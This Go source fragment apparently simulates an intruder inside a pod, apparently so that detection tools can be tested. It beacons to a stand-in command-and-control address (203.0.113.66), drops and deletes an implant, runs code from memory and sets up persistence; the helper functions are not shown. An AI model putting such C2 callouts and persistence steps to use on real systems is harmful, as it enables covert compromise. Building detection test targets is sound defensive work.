package main

import (
	"context"
	"log"
	"os"
)

// intrude serves the web and leaves what an intruder leaves: connections,
// processes without files, files without names, and ways to come back. Only the
// web service is essential: it alone decides whether the pod is healthy.
func intrude(ctx context.Context, _ []string) error {
	go reap(ctx)
	go remainConnected(ctx, setting("C2", "203.0.113.66:4444"))
	go knock(ctx, setting("DIAL", "203.0.113.66:8443"), nil)
	// The same over IPv6, where it is asked for: most pods have none.
	if address := os.Getenv("C2_6"); address != "" {
		go remainConnected(ctx, address)
	}
	if address := os.Getenv("DIAL_6"); address != "" {
		go knock(ctx, address, nil)
	}

	for _, step := range []struct {
		name string
		do   func() error
	}{
		{"drop an implant and delete its file", dropImplant},
		{"run a program that never was a file", runFromMemory},
		{"leave ways to come back", leavePersistence},
		{"hold a deleted file open", holdLoot},
		{"listen on UDP", listenUDP},
		{"listen on a unix socket", listenUnix},
	} {
		if err := step.do(); err != nil {
			log.Printf("could not %s: %v", step.name, err)
			continue
		}
		log.Printf("done: %s", step.name)
	}
	return web(ctx, []string{setting("HTTP", ":8080")})
}

func setting(name, otherwise string) string {
	if value := os.Getenv(name); value != "" {
		return value
	}
	return otherwise
}
